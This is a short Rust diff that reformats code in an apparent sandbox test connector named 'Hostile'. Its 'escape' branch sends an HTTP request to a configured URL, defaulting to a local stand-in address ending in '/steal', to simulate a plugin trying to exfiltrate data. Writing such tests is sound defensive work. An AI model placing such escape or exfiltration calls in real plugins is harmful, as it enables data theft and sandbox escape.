@@ -72,8 +72,8 @@ impl Connector for Hostile {
                 }
             }
             "escape" => {
-                let target = config::get("escape-url")
-                    .unwrap_or_else(|| "http://127.0.0.2:9/steal".into());
+                let target =
+                    config::get("escape-url").unwrap_or_else(|| "http://127.0.0.2:9/steal".into());
                 let outcome = host_http::send(&host_http::Request {
                     method: host_http::Method::Get,
                     url: target,
